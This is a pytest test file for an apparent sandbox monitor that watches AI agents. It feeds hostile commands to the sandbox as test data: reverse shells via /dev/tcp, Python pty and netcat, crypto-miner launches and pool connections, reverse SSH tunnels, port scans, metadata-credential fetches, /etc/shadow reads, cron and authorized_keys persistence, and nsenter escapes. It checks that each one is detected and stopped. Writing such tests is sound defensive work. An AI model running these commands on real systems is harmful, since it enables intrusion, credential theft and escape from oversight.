@@ -1,0 +1,233 @@
+"""Each family: a real triggering behaviour in a real sandbox against the suite's own test hosts.
+Checked: the right finding, attributed to the right step (background processes included), the action
+taken, and benign look-alikes quiet."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+
+from corral import EpisodeEnded, Runtime, RuntimeConfig, SandboxFrozen
+from tests.conftest import INTERNAL, METADATA, POOL, SSH, allow, connect_cmd, py
+
+pytestmark = pytest.mark.asyncio
+
+STRATUM = b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5"]}\n'
+
+
+async def findings_for(runtime, sb, rule=None, wait=2.0):
+    deadline = asyncio.get_running_loop().time() + wait
+    while True:
+        got = [f for f in runtime.store.findings(sandbox_id=sb.id) if rule is None or f.rule_id == rule]
+        if got or asyncio.get_running_loop().time() > deadline:
+            return got
+        await asyncio.sleep(0.05)
+
+
+async def actions_for(runtime, sb):
+    return [e.action for e in runtime.store.events(sandbox_id=sb.id, kind="action")]
+
+
+# --- F1/F2 mining -------------------------------------------------------------------------------------
+async def test_miner_binary_refused_before_running(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("cp /bin/sleep /tmp/xmrig && /tmp/xmrig 5")
+    assert r.refused and "miner-binary" in r.error
+    f = (await findings_for(runtime, sb, "miner-binary"))[0]
+    assert f.step == r.step and f.command == "cp /bin/sleep /tmp/xmrig && /tmp/xmrig 5"
+    assert f.technique == "T1496" and f.severity == "critical"
+    assert (await sb.exec("ls /tmp")).stdout == ""  # nothing ran, not even the cp
+
+
+async def test_miner_hidden_in_a_script_is_stopped_at_exec(sb_factory, runtime):
+    sb = await sb_factory()
+    await sb.write_file("/workspace/setup.sh", "cp /bin/sleep /tmp/xmrig\n/tmp/xmrig 30\necho after\n")
+    r = await sb.exec("bash /workspace/setup.sh")
+    assert "Operation not permitted" in r.stderr  # the exec itself was refused
+    f = (await findings_for(runtime, sb, "miner-binary"))[0]
+    assert f.step == r.step and f.data["exe"] == "/tmp/xmrig"
+
+
+async def test_background_renamed_miner_attributed_to_the_step_that_started_it(sb_factory, runtime, world):
+    sb = await sb_factory()
+    s = await sb.create_session("agent")
+    await s.run("echo preparing; mkdir -p /workspace/proj")
+    await sb.write_file("/workspace/proj/m.py", (
+        "import socket,time\ns=socket.create_connection(('203.0.113.5',3333),timeout=5)\n"
+        "s.sendall(b'{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n')\ntime.sleep(60)\n"))
+    miner = "cp $(command -v python3) /tmp/kworker && (sleep 0.6; /tmp/kworker /workspace/proj/m.py) >/dev/null 2>&1 &"
+    start = await s.run(miner)
+    assert start.exit_code == 0
+    later = [await s.run("ls /workspace"), await s.run("echo still working")]
+    found = await findings_for(runtime, sb, "stratum-protocol", wait=5)
+    assert found, "the pool connection was not detected"
+    f = found[0]
+    assert f.step == start.step and f.step < later[-1].step
+    assert f.command == miner and f.action == "kill"
+    assert world.servers[POOL[:2]].received == 0
+    for _ in range(50):
+        if "kill" in await actions_for(runtime, sb):
+            break
+        await asyncio.sleep(0.05)
+    assert sb.cgroup.pids(step=start.step) == []  # the miner is dead
+    assert (await s.run("echo session alive")).stdout == "session alive\n"
+
+
+async def test_pool_dns_lookup_detected(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("getent hosts pool.supportxmr.com xmr.2miners.com; true")
+    f = (await findings_for(runtime, sb, "pool-dns"))[0]
+    assert f.step == r.step and f.data["name"] in ("pool.supportxmr.com", "xmr.2miners.com")
+
+
+async def test_miner_arguments_but_grep_in_docs_is_quiet(sb_factory, runtime):
+    sb = await sb_factory()
+    await sb.write_file("/workspace/docs/mining.md", "connect with stratum+tcp://pool.example.net:3333\n")
+    r = await sb.exec('grep -rn "stratum+tcp" /workspace/docs/')
+    assert r.exit_code == 0 and await findings_for(runtime, sb, wait=0.3) == []
+    r = await sb.exec("python3 -c 'import time;time.sleep(5)' -o stratum+tcp://pool.supportxmr.com:3333 --donate-level=0")
+    assert r.refused and (await findings_for(runtime, sb, "miner-arguments"))
+
+
+# --- F3 reverse shells --------------------------------------------------------------------------------
+async def test_dev_tcp_reverse_shell_refused_loopback_probe_quiet(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("timeout 1 bash -c 'echo > /dev/tcp/127.0.0.1/5432'; true")
+    assert not r.refused and await findings_for(runtime, sb, wait=0.3) == []
+    r = await sb.exec("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'")
+    assert r.refused
+    assert (await findings_for(runtime, sb, "dev-tcp-shell"))[0].step == r.step
+
+
+async def test_python_reverse_shell_detected(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("""python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));"""
+                      """[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")'""")
+    assert r.refused
+    assert await findings_for(runtime, sb, "scripted-reverse-shell")
+
+
+async def test_netcat_exec_detected(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("nc -e /bin/sh 203.0.113.9 4444")
+    assert r.refused and await findings_for(runtime, sb, "netcat-exec")
+
+
+# --- F4 tunnels ------------------------------------------------------------------------------------------
+async def test_rome_style_reverse_ssh_tunnel(sb_factory, runtime, world):
+    sb = await sb_factory()
+    r = await sb.exec(f"ssh -o BatchMode=yes -o ConnectTimeout=3 -N -R 2222:127.0.0.1:22 -p 22 t@{SSH[0]}")
+    assert r.refused and (await findings_for(runtime, sb, "ssh-tunnel"))[0].technique == "T1572"
+    # the same tunnel hidden in a script: caught at exec, and its bytes by the gateway
+    await sb.write_file("/workspace/t.sh", f"exec ssh -o BatchMode=yes -o ConnectTimeout=3 t@{SSH[0]} -N\n")
+    await sb.exec("bash /workspace/t.sh", timeout=10)
+    f = await findings_for(runtime, sb, "ssh-egress")
+    assert f and f[0].data["protocol"] == "ssh"
+    assert world.servers[SSH[:2]].received == 0
+
+
+# --- F5/F6 egress and probing -------------------------------------------------------------------------
+async def test_internal_port_scan_detected_and_killed(sb_factory, runtime, world):
+    sb = await sb_factory()
+    r = await sb.exec(py(
+        "import socket\nfor p in range(1, 60):\n"
+        "    try: socket.create_connection(('10.20.0.5', p), timeout=0.5).close()\n"
+        "    except OSError: pass\nprint('scan finished')"
+    ), timeout=30)
+    assert "scan finished" not in r.stdout  # killed part-way
+    rules = {f.rule_id for f in await findings_for(runtime, sb)}
+    assert {"port-scan", "internal-network-probe", "egress-denied"} <= rules
+    assert world.servers[INTERNAL[:2]].received == 0
+
+
+async def test_metadata_service_blocked(sb_factory, runtime, world):
+    sb = await sb_factory(allow("*.example.com"))
+    r = await sb.exec(py(
+        "import urllib.request\ntry: urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/"
+        "security-credentials/', timeout=3)\nexcept Exception as e: print('blocked', type(e).__name__)"))
+    assert "blocked" in r.stdout
+    assert (await findings_for(runtime, sb, "metadata-service"))[0].step == r.step
+    assert world.servers[METADATA[:2]].received == 0
+
+
+# --- F7/F9/F10/F11 ---------------------------------------------------------------------------------------
+async def test_credential_persistence_escape_gpu_rules(sb_factory, runtime):
+    sb = await sb_factory()
+    cases = {
+        "find / -name id_rsa 2>/dev/null; true": "private-key-search",
+        "cat /etc/shadow; true": "sensitive-file-read",
+        "echo '* * * * * /tmp/evil.sh' > /tmp/p && crontab /tmp/p": "cron-modified",
+        "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA atk' >> ~/.ssh/authorized_keys": "persistence-file-write",
+        "nsenter --target 1 --mount --uts --ipc --net --pid -- id": "namespace-escape-tool",
+        "python3 -c \"open('/dev/nvidia0')\"; true": "gpu-probe-without-grant",
+    }
+    for cmd, rule in cases.items():
+        r = await sb.exec(cmd)
+        f = [x for x in await findings_for(runtime, sb, rule) if x.step == r.step]
+        assert f, f"{rule} not raised by {cmd!r}"
+    assert (await sb.exec("test -e ~/.ssh/authorized_keys || echo absent")).stdout == "absent\n"
+    quiet = ["crontab -l; true", "ssh-keygen -q -t ed25519 -N '' -f /tmp/k", "nvidia-smi; nproc; true",
+             "echo data | base64 | base64 -d", "dig +short pypi.org; true"]
+    before = len(runtime.store.findings(sandbox_id=sb.id))
+    for cmd in quiet:
+        await sb.exec(cmd)
+    assert len(runtime.store.findings(sandbox_id=sb.id)) == before
+
+
+# --- containment actions --------------------------------------------------------------------------------
+async def test_quarantine_and_end_episode_actions(world, tmp_path):
+    rt = Runtime(RuntimeConfig(state_dir=tmp_path, hosts=world.hosts, system_dns=False,
+                               actions={"stratum-protocol": "quarantine", "ssh-egress": "end_episode"}))
+    await rt.start()
+    try:
+        sb = await rt.create()
+        await sb.exec(connect_cmd(POOL[0], POOL[1], STRATUM))
+        for _ in range(50):
+            if sb.frozen:
+                break
+            await asyncio.sleep(0.05)
+        assert sb.frozen
+        with pytest.raises(SandboxFrozen):
+            await sb.exec("true")
+        await sb.release()
+        assert (await sb.exec("echo thawed")).stdout == "thawed\n"
+
+        sb2 = await rt.create()
+        await sb2.exec("sleep 100 &")
+        await sb2.exec(f"ssh -o BatchMode=yes -o ConnectTimeout=3 t@{SSH[0]} true", timeout=10)
+        for _ in range(50):
+            if sb2.terminated:
+                break
+            await asyncio.sleep(0.05)
+        assert sb2.terminated and "ssh-egress" in sb2.terminated
+        with pytest.raises(EpisodeEnded):
+            await sb2.exec("true")
+        assert len(sb2.pids()) <= 3  # only bwrap and the agent remain
+        await sb2.reset()
+        assert (await sb2.exec("echo new episode")).ok
+        acts = [e.action for e in rt.store.events(kind="action")]
+        assert {"quarantine", "end_episode", "kill"} <= set(acts)
+    finally:
+        await rt.close()
+
+
+# --- the monitor under load and failure -------------------------------------------------------------------
+async def test_thousands_of_exec_events_nothing_lost_in_order(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("for i in $(seq 1 1500); do /bin/true $i; done", timeout=120)
+    assert r.exit_code == 0
+    execs = [e for e in runtime.store.events(sandbox_id=sb.id, kind="process") if e.argv and e.argv[0] == "/bin/true"]
+    assert [int(e.argv[1]) for e in execs] == list(range(1, 1501))
+    assert all(e.step == r.step for e in execs)
+    assert [e.id for e in execs] == sorted(e.id for e in execs)
+
+
+async def test_monitor_loss_fails_closed_and_reset_restores_it(sb_factory):
+    sb = await sb_factory()
+    assert (await sb.exec("/bin/echo watched")).stdout == "watched\n"
+    sb._execwatch.close()  # the exec monitor dies
+    r = await sb.exec("/bin/echo unwatched")
+    assert r.exit_code != 0 and r.stdout == ""  # no exec runs unobserved
+    await sb.reset()  # a new agent, a new listener
+    assert (await sb.exec("/bin/echo watched again")).stdout == "watched again\n"
